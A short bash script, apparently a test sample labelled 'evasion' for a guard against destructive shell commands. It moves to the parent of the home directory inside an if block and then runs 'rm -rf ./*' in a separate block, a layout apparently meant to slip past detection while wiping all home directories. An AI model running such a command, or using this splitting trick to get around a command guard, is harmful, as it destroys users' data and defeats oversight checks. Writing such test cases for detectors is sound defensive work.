#!/bin/bash
# evasion: cd to the home's parent inside an if, then rm -rf of everything there in a later block
top="$HOME/.cache/.."
if [ -d "$top" ]; then
  cd "$top/.." || exit 1
fi
{
  rm -rf ./*
}
